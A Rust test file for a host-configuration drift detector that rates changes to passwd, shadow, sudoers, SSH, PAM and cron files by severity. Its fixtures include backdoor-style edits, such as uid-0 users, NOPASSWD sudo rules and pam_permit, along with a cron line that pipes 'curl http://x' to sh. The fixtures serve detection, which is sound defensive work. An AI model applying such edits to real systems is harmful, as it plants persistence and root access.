//! Sentences, from files as views read them.

#![expect(clippy::unwrap_used, reason = "a test may")]

use crate::drift::meaning::records::{Records, pairs};
use crate::drift::meaning::{Said, sentence};
use crate::model::Severity;
use crate::protocol::View;
use crate::protocol::view::{HostFacts, text};
use proptest::prelude::*;

fn said(view: View, path: &str, before: &[u8], after: &[u8]) -> Vec<Said> {
    let read = |bytes: &[u8]| Records::read(&text(view, bytes, &HostFacts::default()).unwrap()).unwrap();
    let (before, after) = (read(before), read(after));
    pairs(&before, &after).iter().map(|pair| sentence(view, path.as_bytes(), pair)).collect()
}

/// What is said of two files: severity and title, a line a record.
fn told(view: View, path: &str, before: &str, after: &str) -> String {
    let lines = said(view, path, before.as_bytes(), after.as_bytes());
    let lines: Vec<String> = lines.iter().map(|said| format!("{}: {}", said.severity.word(), said.title)).collect();
    lines.join("\n")
}

#[test]
fn users_are_told_by_what_they_can_do() {
    let base =
        "root:x:0:0::/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\nsshd:x:105:65534::/:/usr/sbin/nologin\n";
    let with = |line: &str| told(View::Passwd, "/etc/passwd", base, &format!("{base}{line}\n"));
    assert_eq!(with("deploy2:x:0:0::/:/bin/sh"), "critical: user deploy2 added with uid 0");
    assert_eq!(with("bob::1001:1001::/:/bin/sh"), "critical: user bob added with an empty password (uid 1001)");
    assert_eq!(with("bob:x:1001:1001::/:/bin/zsh"), "high: user bob added with uid 1001 and shell /bin/zsh");
    assert_eq!(with("ntp:x:106:1::/:/usr/sbin/nologin"), "medium: user ntp added with uid 106, without a login shell");
    let to = |from: &str, to: &str| told(View::Passwd, "/etc/passwd", base, &base.replace(from, to));
    assert_eq!(to("anna:x:1000", "anna:x:0"), "critical: user anna: uid 1000 -> 0, shares its uid with root");
    assert_eq!(to("sshd:x:105", "sshd:x:107"), "low: user sshd: uid 105 -> 107");
    assert_eq!(to("/:/usr/sbin/nologin", "/:/bin/sh"), "high: user sshd: shell /usr/sbin/nologin -> /bin/sh");
    assert_eq!(to("anna:x", "anna:"), "critical: user anna: password x -> empty");
    assert_eq!(to("::/home/anna", ":Anna B:/home/anna"), "low: user anna: gecos none -> Anna B");
}

#[test]
fn groups_and_passwords_are_told() {
    let group = |before: &str, after: &str| told(View::Group, "/etc/group", before, after);
    assert_eq!(group("sudo:x:27:\n", "sudo:x:27:anna\n"), "high: group sudo: anna added");
    assert_eq!(group("games:x:60:bob\n", "games:x:61:\n"), "medium: group games: bob removed, gid 60 -> 61");
    assert_eq!(group("ssl-cert:x:110:\n", "ssl-cert:x:111:\n"), "low: group ssl-cert: gid 110 -> 111");
    assert_eq!(group("", "ops:x:1001:a,b\n"), "medium: group ops added with gid 1001: a,b");
    let shadow = |before: &str, after: &str| {
        let line = |hash: &str| format!("anna:{hash}:19800:0:99999:7:::\n");
        told(View::Shadow, "/etc/shadow", &line(before), &line(after))
    };
    assert_eq!(shadow("!$y$a$b$c", "$y$a$b$c"), "high: password of anna: locked -> set");
    assert_eq!(shadow("*", ""), "critical: password of anna: none -> empty");
    assert_eq!(shadow("$y$a$b$c", "$1$a$b"), "high: password of anna: algorithm yescrypt -> md5");
    assert_eq!(
        told(View::Shadow, "/etc/shadow", "a:*:1:0:90:7:::\n", "a:*:1:0:99999:7:::\n"),
        "medium: password of a: max 90 -> 99999"
    );
    assert_eq!(
        told(View::Gshadow, "/etc/gshadow", "sudo:!::\n", "sudo:!:anna:\n"),
        "high: group sudo: administrator anna added"
    );
    let subid = |after: &str| told(View::Subid, "/etc/subuid", "anna:100000:65536\n", after);
    assert_eq!(subid("anna:165536:65536\n"), "medium: subordinate uids of anna: 100000+65536 -> 165536+65536");
    assert_eq!(subid("anna:100000:65536\nanna:0:1\n"), "critical: subordinate uids of anna added: 0+1");
}

#[test]
fn rules_of_sudo_are_told() {
    let sudo = |before: &str, after: &str| told(View::Sudoers, "/etc/sudoers", before, after);
    let all = "deploy ALL=(ALL:ALL) NOPASSWD: ALL\n";
    assert_eq!(sudo("", all), "critical: sudo: deploy may run ALL without a password");
    assert_eq!(sudo("", "%ops ALL=(ALL) ALL\n"), "critical: sudo: %ops may run ALL");
    assert_eq!(
        sudo("", "bob ALL=(www-data) /usr/bin/git pull\n"),
        "high: sudo: bob may run /usr/bin/git pull as www-data"
    );
    assert_eq!(sudo(all, ""), "medium: sudo: deploy may no longer run ALL without a password");
    assert_eq!(
        sudo("Defaults env_reset\n", "Defaults !env_reset\n"),
        "high: sudo: Defaults env_reset: env_reset -> !env_reset"
    );
    assert_eq!(
        sudo("", "Defaults:bob !authenticate\n"),
        "critical: sudo: Defaults :bob authenticate: not set -> !authenticate"
    );
    assert_eq!(sudo("", "#includedir /tmp/x\n"), "high: sudo: @includedir /tmp/x added");
    assert_eq!(sudo("User_Alias A = bob\n", "User_Alias A = bob, eve\n"), "high: sudo: User_Alias A: bob -> bob,eve");
    assert_eq!(
        sudo("a ALL=ALL\nb ALL=!ALL\n", "b ALL=!ALL\na ALL=ALL\n"),
        "high: /etc/sudoers: the same records stand in another order"
    );
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINs+wD+kMOXyKm8s1vsmoeUb7iYkJDsJ2NaHdWl7x6jB anna@laptop\n";

#[test]
fn keys_are_told() {
    let key = |path: &str, before: &str, after: &str| told(View::AuthorizedKeys, path, before, after);
    assert_eq!(
        key("/root/.ssh/authorized_keys", "", KEY),
        "critical: root may be logged in to with key SHA256:ArPfqM2P3KO6IoCcyDT3JUJXIO9coHVyz+aRR7WF474 (anna@laptop)"
    );
    assert_eq!(
        key("/home/bob/.ssh/authorized_keys", KEY, ""),
        "medium: bob may no longer be logged in to with key SHA256:ArPfqM2P3KO6IoCcyDT3JUJXIO9coHVyz+aRR7WF474 (anna@laptop)"
    );
    assert_eq!(
        key("/root/.ssh/authorized_keys", &format!("command=\"/bin/x\",restrict {KEY}"), &format!("restrict {KEY}")),
        "critical: key SHA256:ArPfqM2P3K... of root: option command=/bin/x removed"
    );
    assert_eq!(
        key("/etc/ssh/keys/eve", KEY, &KEY.replace("laptop", "desk")),
        "low: key SHA256:ArPfqM2P3K... of eve: comment (anna@laptop) -> (anna@desk)"
    );
}

#[test]
fn settings_of_ssh_are_told() {
    let sshd = |before: &str, after: &str| told(View::Sshd, "/etc/ssh/sshd_config", before, after);
    assert_eq!(sshd("PermitRootLogin no\n", "permitrootlogin yes\n"), "critical: sshd: PermitRootLogin no -> yes");
    assert_eq!(sshd("", "PermitEmptyPasswords yes\n"), "critical: sshd: PermitEmptyPasswords not set -> yes");
    assert_eq!(sshd("UsePAM yes\n", ""), "high: sshd: UsePAM yes -> not set");
    assert_eq!(sshd("Banner none\n", "Banner /etc/issue\n"), "medium: sshd: Banner none -> /etc/issue");
    assert_eq!(
        sshd("", "Match user bob\nPermitRootLogin yes\n"),
        "high: sshd: block Match user bob added\ncritical: sshd: Match user bob: PermitRootLogin not set -> yes"
    );
    assert_eq!(
        told(View::Sshd, "/etc/ssh/ssh_config", "", "Host *\nProxyCommand /tmp/x\n"),
        "high: ssh: block Host * added\nhigh: ssh: Host *: ProxyCommand not set -> /tmp/x"
    );
}

#[test]
fn lines_of_pam_are_told() {
    let base = "auth requisite pam_nologin.so\nauth [success=1 default=ignore] pam_unix.so nullok\naccount required pam_unix.so\n";
    let pam = |after: &str| told(View::Pam, "/etc/pam.d/login", base, after);
    assert_eq!(
        pam(&format!("auth sufficient pam_permit.so\n{base}")),
        "critical: PAM login: auth line added: sufficient pam_permit.so"
    );
    assert_eq!(
        pam(&format!("{base}session optional pam_exec.so /tmp/x\n")),
        "critical: PAM login: session line added: optional pam_exec.so /tmp/x"
    );
    assert_eq!(
        pam(&base.replace("auth requisite pam_nologin.so\n", "")),
        "high: PAM login: auth line removed: requisite pam_nologin.so"
    );
    assert_eq!(
        pam(&base.replace(" nullok", "")),
        "high: PAM login: auth: [success=1 default=ignore]... -> [success=1 default=ignore]..."
    );
    let turned = "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_nologin.so\naccount required pam_unix.so\n";
    assert_eq!(pam(turned), "high: PAM login: auth lines stand in another order");
}

#[test]
fn jobs_are_told() {
    let system = |before: &str, after: &str| told(View::Cron, "/etc/crontab", before, after);
    let job = "17 * * * * root /usr/bin/x\n";
    assert_eq!(system("", job), "high: cron of root: job added: /usr/bin/x (17 * * * *)");
    assert_eq!(system(job, &job.replace("17 *", "1 5")), "medium: cron of root: /usr/bin/x: 17 * * * * -> 1 5 * * *");
    assert_eq!(
        told(View::Cron, "/var/spool/cron/crontabs/anna", "", "@reboot curl http://x | sh\n"),
        "critical: cron of anna: job added: curl http://x | sh (@reboot)"
    );
    assert_eq!(system("PATH=/bin\n", "PATH=/tmp:/bin\n"), "high: cron crontab: PATH /bin -> /tmp:/bin");
    assert_eq!(system(job, job.trim_end()), "medium: cron crontab: the last line does not end");
}

#[test]
fn what_is_no_account_of_ours_has_words_too() {
    for view in View::ALL {
        let (before, after) = (Records::read(b"k\tv\n").unwrap(), Records::read(b"k\tw\n").unwrap());
        let pairs = pairs(&before, &after);
        let said = sentence(*view, b"/etc/x", &pairs[0]);
        assert!(!said.title.is_empty() && said.severity >= Severity::Low, "{view:?}");
    }
}

proptest! {
    /// Pairs are made of what hosts say: no record may break a sentence.
    #[test]
    fn no_record_breaks_a_sentence(
        view in prop::sample::select(View::ALL.to_vec()),
        before in prop::collection::vec(("(user:|group:|rule |defaults|alias |job |env |match x: |auth|include)?[ -~]{0,12}", "[ -~]{0,40}"), 0..3),
        after in prop::collection::vec(("(user:|group:|rule |defaults|alias |job |env |match x: |auth|include)?[ -~]{0,12}", "[ -~]{0,40}"), 0..3),
        path in "/[ -~]{0,20}",
    ) {
        let text = |records: &[(String, String)]| {
            let mut fields = crate::protocol::view::Fields::new(crate::protocol::view::Order::AsWritten);
            for (key, value) in records {
                fields.put(key.as_bytes(), value.as_bytes());
            }
            Records::read(&fields.finish().unwrap()).unwrap()
        };
        let (old, new) = (text(&before), text(&after));
        let pairs = pairs(&old, &new);
        prop_assert_eq!(pairs.is_empty(), old == new);
        for pair in &pairs {
            prop_assert!(!sentence(view, path.as_bytes(), pair).title.is_empty());
        }
    }
}
